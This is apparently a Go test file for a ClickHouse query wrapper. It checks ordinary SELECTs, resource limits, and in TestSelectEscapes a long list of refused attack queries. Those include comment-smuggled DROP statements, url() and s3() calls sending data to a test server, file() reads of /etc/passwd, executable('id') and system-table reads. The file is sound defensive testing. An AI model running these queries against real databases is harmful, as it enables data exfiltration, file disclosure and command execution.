package clickhouse

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

func TestSelectAnswers(t *testing.T) {
	w := public(t)
	for _, w := range []*Warehouse{w, throughDSN(t, w)} {
		got, err := w.Select(t.Context(), `WITH c AS (SELECT 1 AS one) SELECT {day:Date} AS d, 12.50::Decimal(38, 4) AS a, NULL AS n, 9007199254740993 AS i, 1.5 AS f, customer_id, {source:String} AS s
			FROM paylake.operations AS o, c, numbers(1) AS m -- and a comment
			WHERE operation_id IN (SELECT operation_id FROM operations_at(snapshot = 4)) ORDER BY 1 LIMIT 5;`,
			Selection{Rows: 10, Parameters: map[string]string{"day": "2026-11-01", "source": "it's"}})
		if err != nil {
			t.Fatal(err)
		}
		want := [][]any{{"2026-11-01", "12.5", nil, "9007199254740993", json.Number("1.5"), "p1:secret", "it's"}}
		if !reflect.DeepEqual(got.Rows, want) || len(got.Columns) != 7 || got.Columns[1] != (ViewColumn{"a", "Decimal(38, 4)"}) || got.Columns[4].Type != "Float64" {
			t.Errorf("%+v", got)
		}
		if none, err := w.Select(t.Context(), "SELECT customer_id FROM operations WHERE 0", Selection{Rows: 10}); err != nil || len(none.Rows) != 0 || none.Columns[0].Name != "customer_id" {
			t.Errorf("%+v %v", none, err)
		}
	}
}

// throughDSN is the same database as a server of somebody else, entered as the
// loader: a user who may do everything.
func throughDSN(t *testing.T, w *Warehouse) *Warehouse {
	t.Helper()
	ep := shared.Current()
	_, port, _ := strings.Cut(ep.HTTPAddr, ":")
	other, err := Open(t.Context(), Options{Lake: w.lake, Now: w.now, DSN: "clickhouse://loader@" + ep.Addr + "/paylake?http_port=" + port, Password: ep.Password})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = other.Close() })
	return other
}

// What somebody writes into a configuration who wants more than rows of views,
// with the rights of a reader and with those of the loader. Each is refused with
// one sentence, and none has done anything.
func TestSelectEscapes(t *testing.T) {
	w := public(t)
	var knocked atomic.Int64
	outside := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { knocked.Add(1) }))
	defer outside.Close()
	dir := t.TempDir()
	ep := shared.Current()
	for _, sql := range []string{"CREATE DATABASE IF NOT EXISTS elsewhere", "CREATE TABLE IF NOT EXISTS elsewhere.t (x String) ENGINE = Memory", "INSERT INTO elsewhere.t VALUES ('secret')",
		"CREATE TABLE elsewhere.j (k UInt8, x String) ENGINE = Join(ANY, LEFT, k)", "INSERT INTO elsewhere.j VALUES (1, 'secret')",
		"CREATE DICTIONARY elsewhere.d (k UInt64, x String DEFAULT 'secret') PRIMARY KEY k SOURCE(NULL()) LAYOUT(FLAT()) LIFETIME(0)"} {
		if err := w.exec(t.Context(), "prepare", sql); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { _ = w.exec(t.Context(), "drop", "DROP DATABASE IF EXISTS elsewhere SYNC") })
	attacks := []string{
		// writing
		"INSERT INTO ledger_rows (entry_id) VALUES ('x')", "INSERT INTO elsewhere.t VALUES ('x')", "INSERT INTO elsewhere.t SELECT 'x'", "CREATE TABLE paylake.x (a Int8) ENGINE = Memory", "CREATE TEMPORARY TABLE x (a Int8)",
		"CREATE VIEW paylake.x AS SELECT 1", "DROP VIEW ledger", "DROP TABLE elsewhere.t", "ALTER TABLE ledger_rows DELETE WHERE 1", "TRUNCATE TABLE elsewhere.t", "RENAME TABLE elsewhere.t TO elsewhere.u", "OPTIMIZE TABLE ledger_rows",
		"DELETE FROM elsewhere.t WHERE 1", "UPDATE elsewhere.t SET x = 'y' WHERE 1", "INSERT INTO FUNCTION url('" + outside.URL + "', 'CSV', 'x Int8') VALUES (1)", "CREATE USER x", "GRANT SELECT ON paylake.* TO analyst", "SYSTEM FLUSH LOGS", "KILL QUERY WHERE 1",
		"BACKUP DATABASE paylake TO File('/tmp/x')", "ATTACH TABLE paylake.y FROM '/tmp'", "EXECUTE AS analyst SELECT 1", "USE elsewhere", "SET readonly = 0", "SET ROLE analyst", "BEGIN TRANSACTION",
		// SELECTs that do more
		"SELECT 1 SETTINGS readonly = 0", "SELECT 1 SETTINGS max_execution_time = 0", "SELECT * FROM (SELECT 1 SETTINGS max_memory_usage = 0)", "WITH c AS (SELECT 1 SETTINGS max_result_rows = 0) SELECT * FROM c", "SELECT 1 FORMAT Null", "SELECT * FROM ledger INTO OUTFILE '" + dir + "/x'",
		"SELECT 1; SELECT 2", "SELECT 1; DROP TABLE elsewhere.t", "SELECT 1 /* */; INSERT INTO elsewhere.t VALUES ('x')", "SELECT 1 -- ; \n; DROP TABLE elsewhere.t", "/* SELECT */ DROP TABLE elsewhere.t", "-- SELECT\nDROP TABLE elsewhere.t", "# SELECT\nDROP TABLE elsewhere.t", "optimize = 1 SELECT 1", "graph = 1 DROP TABLE elsewhere.t",
		"EXPLAIN SELECT 1", "DESCRIBE TABLE elsewhere.t", "SHOW TABLES", "EXISTS TABLE elsewhere.t", "CHECK TABLE elsewhere.t", "SHOW CREATE TABLE ledger_rows",
		// files, networks, programs
		"SELECT * FROM url('" + outside.URL + "', 'CSV', 'x String')", "SELECT x FROM numbers(1), url('" + outside.URL + "/?' || 'secret', 'CSV', 'x String')", "SELECT (SELECT x FROM url('" + outside.URL + "', 'CSV', 'x String'))", "SELECT 1 WHERE 'x' IN (SELECT x FROM url('" + outside.URL + "', 'CSV', 'x String'))",
		"WITH (SELECT x FROM url('" + outside.URL + "', 'CSV', 'x String')) AS y SELECT y", "WITH u AS (SELECT x FROM url('" + outside.URL + "', 'CSV', 'x String')) SELECT 1", "SELECT * FROM view(SELECT * FROM url('" + outside.URL + "', 'CSV', 'x String'))", "SELECT 1 UNION ALL SELECT x::UInt8 FROM URL('" + outside.URL + "', 'CSV', 'x String')",
		"SELECT * FROM s3('" + outside.URL + "/b/x', 'CSV', 'a String')", "SELECT * FROM file('/etc/hostname', 'LineAsString')", "SELECT file('/etc/hostname')", "SELECT * APPLY(file) FROM (SELECT '/etc/hostname')", "SELECT `f\\x69le`('/etc/hostname')", "SELECT * FROM `/etc/passwd`", "SELECT * FROM default.`/etc/hostname`",
		"SELECT * FROM remote('" + ep.Addr + "', elsewhere.t, 'loader', '')", "SELECT * FROM remote('127.0.0.1:1', paylake.ledger)", "SELECT * FROM remoteSecure('127.0.0.1:1', a.b)", "SELECT * FROM cluster('default', elsewhere.t)", "SELECT * FROM executable('id', 'TSV', 'x String')", "SELECT * FROM mysql('127.0.0.1:1', 'a', 'b', 'c', 'd')",
		"SELECT * FROM postgresql('127.0.0.1:1', 'a', 'b', 'c', 'd')", "SELECT * FROM sqlite('/tmp/x.db', 't')", "SELECT * FROM mongodb('127.0.0.1:1', 'a', 'b', 'c', 'd', 'x String')", "SELECT * FROM iceberg('" + outside.URL + "/b/x')", "SELECT * FROM Python(x)", "SELECT * FROM input('x String')", "SELECT * FROM azureBlobStorage('" + outside.URL + "', 'c', 'x', 'a', 'b', 'CSV', 'auto', 'x String')",
		// other rows
		"SELECT * FROM system.one", "SELECT * FROM system.tables", "SELECT name FROM `system`.`users`", "SELECT * FROM system.query_log", "SELECT * FROM system.processes", "SELECT * FROM information_schema.tables", "SELECT * FROM INFORMATION_SCHEMA.TABLES", "SELECT 1 FROM ledger JOIN system.one ON 1 = 1",
		"SELECT * FROM elsewhere.t", "SELECT * FROM `elsewhere`.`t`", "SELECT x FROM elsewhere.t AS ledger", "SELECT 'secret' IN elsewhere.t", "SELECT 'secret' IN (elsewhere.t)", "SELECT 1 WHERE 'a' NOT IN `elsewhere`.t", "SELECT 'a' GLOBAL IN elsewhere.t",
		"SELECT * FROM ledger_rows", "SELECT * FROM paylake.persons", "SELECT count() FROM paylake.load_visibility", "SELECT 'x' IN persons", "SELECT * FROM merge('paylake', '.*')", "SELECT * FROM merge('.*', '.*')", "SELECT * FROM loop('elsewhere', 't') LIMIT 1", "SELECT * FROM mergeTreeIndex('paylake', 'ledger_rows')",
		"SELECT * FROM viewIfPermitted(SELECT * FROM elsewhere.t ELSE null('x String'))", "SELECT * FROM (EXPLAIN SELECT 1)", "SELECT * FROM generateRandom('x Int8') LIMIT 1", "SELECT * FROM `a\nb`, elsewhere.t", "SELECT `Set\nx` FROM elsewhere.t", "SELECT * FROM numbers(1) AS `x\n    TableExpression (children 1)\n     Subquery`, elsewhere.t",
		"SELECT * FROM dictionary('elsewhere.d')", "SELECT dictGet('elsewhere.d', 'a', 1)", "SELECT DICTGET('elsewhere.d', 'a', 1)", "SELECT dictHas('d', 1)", "SELECT joinGet('elsewhere.j', 'x', 1::UInt8)", "SELECT joinGetOrNull('elsewhere.j', 'x', 1::UInt8)", "SELECT dictGetString('elsewhere.d', 'x', 1)", "SELECT dictGetOrDefault('elsewhere.d', 'x', 1, '')", "SELECT joinGetOrNull(elsewhere.t, 'x', 1)", "SELECT * FROM ledger_at(snapshot = (SELECT toInt64(length(x)) FROM elsewhere.t))",
		"SELECT", "", "SELEC 1", "SELECT nothing_such FROM ledger",
	}
	for who, w := range map[string]*Warehouse{"a reader": w, "the loader": throughDSN(t, w)} {
		for _, sql := range attacks {
			got, err := w.Select(t.Context(), sql, Selection{Rows: 100})
			if !errors.Is(err, ErrQuery) || len(got.Rows) > 0 || strings.Contains(err.Error(), "secret") && !strings.Contains(sql, "secret") {
				t.Errorf("%s could: %s\n%v %v", who, sql, got, err)
			} else if text := strings.TrimSuffix(err.Error(), "\n"); strings.Contains(text, "\n") && !strings.Contains(sql, "\n") {
				t.Errorf("%s: more than a sentence: %s", sql, text)
			}
		}
	}
	files, err := filepath.Glob(filepath.Join(dir, "*"))
	if _, gone := os.Stat(dir); err != nil || gone != nil || len(files) > 0 || knocked.Load() > 0 {
		t.Errorf("%d files, %d requests from the server", len(files), knocked.Load())
	}
	if n := cell(t, w, "SELECT concat(toString(count()), any(x)) FROM elsewhere.t"); n != "1secret" {
		t.Errorf("after %d attacks the other database holds %s", len(attacks), n)
	}
	if n := cell(t, w, "SELECT count() FROM ledger"); n != "3" {
		t.Errorf("after %d attacks the ledger has %s rows", len(attacks), n)
	}
	t.Logf("%d attacks", len(attacks))
}

func TestSelectBounds(t *testing.T) {
	w := public(t)
	for readonly, w := range map[string]*Warehouse{"2": w, "1": throughDSN(t, w)} {
		for says, c := range map[string]struct {
			sql string
			s   Selection
		}{
			"more than 10 rows":          {"SELECT number FROM numbers(11)", Selection{Rows: 10}},
			"takes longer than 1s":       {"SELECT sum(cityHash64(a.number, b.number)) FROM numbers(1000000000) AS a, numbers(1000) AS b", Selection{Rows: 10, Within: time.Second}},
			"more than 32 MiB of memory": {"SELECT groupArray(toString(number)) FROM numbers(10000000)", Selection{Rows: 10, Memory: 32 << 20}},
		} {
			if got, err := w.Select(t.Context(), c.sql, c.s); !errors.Is(err, ErrQuery) || !strings.Contains(err.Error(), says) || len(got.Rows) > 0 {
				t.Errorf("%s: %v", says, err)
			}
		}
		if got, err := w.Select(t.Context(), "SELECT number FROM numbers(10)", Selection{Rows: 10}); err != nil || len(got.Rows) != 10 {
			t.Errorf("%d rows, %v", len(got.Rows), err)
		}
		if out, err := w.Select(t.Context(), "SELECT getSetting('readonly') AS r", Selection{Rows: 10}); err != nil || fmt.Sprint(out.Rows[0][0]) != readonly {
			t.Errorf("readonly: %v %v", out.Rows, err)
		}
	}
}
